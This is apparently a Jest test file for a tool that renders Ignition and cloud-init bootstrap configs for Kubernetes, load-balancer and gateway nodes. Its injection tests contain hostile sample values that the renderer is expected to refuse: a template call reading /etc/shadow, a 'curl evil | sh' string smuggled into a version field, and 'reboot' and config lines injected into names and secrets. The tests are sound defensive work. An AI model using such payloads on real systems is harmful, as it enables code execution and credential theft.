import * as fs from 'fs';
import * as path from 'path';
import { loadSite, loadSiteFile, Site } from '../../../site';
import { bootstrapFormat, BootstrapError, planBootstrap, renderBootstrap, secretsFor, type Bootstrap, type BootstrapSecrets } from '../../../infra/bootstrap';
import { EXAMPLE_SECRETS, PLACEHOLDER_REFERENCES } from '../../support/validators/bootstrap';

const root = path.join(__dirname, '..', '..', '..');
const load = (f: string) => loadSiteFile(path.join(root, f)).site;
const site = load('site.yaml');
const text = (b: Bootstrap) => (b.format === 'ignition' ? JSON.stringify(b.ignition) : b.userData + b.networkConfig + b.metaData);

describe('renderBootstrap', () => {
  it('Ignition for the Flatcar nodes, cloud-init for the Debian ones', () => {
    expect(Object.fromEntries(site.nodes.map((n) => [n.name, renderBootstrap(site, n, PLACEHOLDER_REFERENCES).format]))).toEqual({
      'infra-cluster': 'cloud-init',
      loadbalancer1: 'cloud-init',
      loadbalancer2: 'cloud-init',
      loadbalancer3: 'cloud-init',
      master1: 'ignition',
      master2: 'ignition',
      master3: 'ignition',
      worker1: 'ignition',
      worker2: 'ignition',
      worker3: 'ignition',
      storage1: 'ignition',
      postgresql1: 'cloud-init',
      'wg-gateway': 'cloud-init',
    });
  });

  it('needs exactly the secrets secretsFor names', () => {
    for (const n of site.nodes) {
      const only = Object.fromEntries(secretsFor(site, n).map((k) => [k, PLACEHOLDER_REFERENCES[k]])) as Partial<BootstrapSecrets>;
      expect(() => renderBootstrap(site, n, only)).not.toThrow();
      for (const k of secretsFor(site, n)) expect(() => renderBootstrap(site, n, { ...only, [k]: undefined })).toThrow(new RegExp(`needs secret ${k}`));
    }
  });

  it('the output holds secret references only: no value, and no other Terraform template syntax', () => {
    for (const n of site.nodes) {
      const out = text(renderBootstrap(site, n, PLACEHOLDER_REFERENCES));
      for (const v of Object.values(EXAMPLE_SECRETS)) expect(out).not.toContain(v);
      const rest = Object.values(PLACEHOLDER_REFERENCES).reduce((acc, r) => acc.split(r).join(''), out);
      expect(rest).not.toMatch(/[$%]\{/);
    }
  });

  it('renders every node of the examples (Ubuntu k3s nodes and an external Debian storage node on Proxmox)', () => {
    for (const f of ['examples/proxmox-minimal.yaml', 'examples/multi-cluster.yaml']) {
      const s = load(f);
      for (const n of s.nodes) expect(renderBootstrap(s, n, PLACEHOLDER_REFERENCES).format).toBe('cloud-init');
    }
  });

  it.each(site.nodes.map((n) => n.name))('plan summary snapshot: %s', (name) => {
    const plan = planBootstrap(site, site.node(name), PLACEHOLDER_REFERENCES);
    expect({
      format: bootstrapFormat(site, site.node(name)),
      files: plan.files.map((f) => `${f.mode.toString(8)} ${f.path}${f.early ? ' (before packages)' : ''}`),
      units: plan.units.map((u) => `${u.name}${u.enabled ? ' [enabled]' : ''}${u.dropins?.length ? ` +${u.dropins.map((d) => d.name).join(',')}` : ''}`),
      packages: plan.packages,
      commands: plan.commands.map((c) => c.join(' ')),
    }).toMatchSnapshot();
  });
});

describe('no site value can inject', () => {
  const siteText = fs.readFileSync(path.join(root, 'site.yaml'), 'utf8');

  it('an SSH key comment with Terraform template syntax is refused (by the schema too, so built past it here)', () => {
    expect(() => loadSite(siteText.replace('admin@microcloud', 'admin@${file("/etc/shadow")}'))).toThrow(/ssh\.authorizedKeys\[0\]: .* is not an OpenSSH public key line/);
    const spec = structuredClone(site.spec) as any;
    spec.ssh.authorizedKeys = [spec.ssh.authorizedKeys[0].replace('admin@microcloud', 'admin@${file("/etc/shadow")}')];
    const evil = new Site(spec);
    expect(() => renderBootstrap(evil, evil.node('master1'), PLACEHOLDER_REFERENCES)).toThrow(BootstrapError);
    expect(() => renderBootstrap(evil, evil.node('loadbalancer1'), PLACEHOLDER_REFERENCES)).toThrow(BootstrapError);
  });

  it('names and addresses that bypass the schema are refused', () => {
    const spec = structuredClone(site.spec) as Site['spec'];
    const bad = (mutate: (s: { -readonly [K in keyof Site['spec']]: any }) => void) => {
      const s = structuredClone(spec) as any;
      mutate(s);
      return new Site(s);
    };
    const evilName = bad((s) => {
      s.nodes[4].name = 'master1;reboot';
      s.clusters[0].nodes[0] = 'master1;reboot';
    });
    expect(() => renderBootstrap(evilName, evilName.nodes[4], PLACEHOLDER_REFERENCES)).toThrow(BootstrapError);
    const evilVersion = bad((s) => {
      s.clusters[0].k3s.version = 'v1.33.5+k3s1\'; curl evil | sh; \'';
    });
    expect(() => renderBootstrap(evilVersion, evilVersion.node('master1'), PLACEHOLDER_REFERENCES)).toThrow(BootstrapError);
    const evilDomain = bad((s) => {
      s.domain = 'socialdevs.site\nserver=6.6.6.6';
    });
    expect(() => renderBootstrap(evilDomain, evilDomain.node('infra-cluster'), PLACEHOLDER_REFERENCES)).toThrow(BootstrapError);
  });

  it('a secret value with quotes or line breaks is refused', () => {
    expect(() => renderBootstrap(site, site.node('master1'), { ...PLACEHOLDER_REFERENCES, k3sToken: 'x"\ncluster-reset: true' })).toThrow(BootstrapError);
  });
});

describe('what cannot be bootstrapped', () => {
  const siteText = fs.readFileSync(path.join(root, 'site.yaml'), 'utf8');

  it('a load balancer, database, infra node or gateway on Flatcar (no packages; the site loader refuses it too, so built past it here)', () => {
    for (const [name, from, refusal] of [
      ['loadbalancer1', '{ name: loadbalancer1, role: loadbalancer, network: kube02, address: 10.17.3.11, cpu: 2, memoryMiB: 2048, image: debian', 'node "loadbalancer1" of role loadbalancer needs the haproxy and keepalived packages, which Flatcar cannot install'],
      ['infra-cluster', '{ name: infra-cluster, role: infra, network: lan, address: 192.168.0.30, cpu: 2, memoryMiB: 2048, image: debian', 'node "infra-cluster" of role infra needs the dnsmasq and chrony packages, which Flatcar cannot install'],
    ]) {
      expect(() => loadSite(siteText.replace(from, from.replace('image: debian', 'image: flatcar')))).toThrow(refusal);
      const spec = structuredClone(site.spec) as any;
      spec.nodes.find((n: { name: string }) => n.name === name).image = 'flatcar';
      const s = new Site(spec);
      expect(() => renderBootstrap(s, s.node(name), PLACEHOLDER_REFERENCES)).toThrow(/give it a debian or ubuntu image/);
    }
  });

  it('an image OS it has no bootstrap for (built past the schema)', () => {
    const spec = structuredClone(site.spec) as any;
    spec.images.debian.os = 'rocky';
    const s = new Site(spec);
    expect(() => renderBootstrap(s, s.node('loadbalancer1'), PLACEHOLDER_REFERENCES)).toThrow(/no bootstrap for image os "rocky"/);
  });
});

describe('a node object carrying the MAC the backend derives', () => {
  it('is matched by that MAC and named eth0, in network-config and keepalived alike', () => {
    const lb = { ...site.node('loadbalancer2'), mac: '52:54:00:11:03:0c' };
    const b = renderBootstrap(site, lb, PLACEHOLDER_REFERENCES);
    if (b.format !== 'cloud-init') throw new Error('expected cloud-init');
    expect(b.networkConfig).toContain('eth0:\n    match:\n      macaddress: 52:54:00:11:03:0c\n    set-name: eth0\n');
    expect(b.userData).toContain('interface eth0\n');
    expect(b.userData).toContain('state BACKUP\n');
    expect(b.userData).toContain('priority 140\n');
  });

  it('a copy of a Flatcar node renders the same as the original (comparisons are by name)', () => {
    for (const n of ['master1', 'storage1']) expect(renderBootstrap(site, { ...site.node(n) }, PLACEHOLDER_REFERENCES)).toEqual(renderBootstrap(site, site.node(n), PLACEHOLDER_REFERENCES));
  });
});
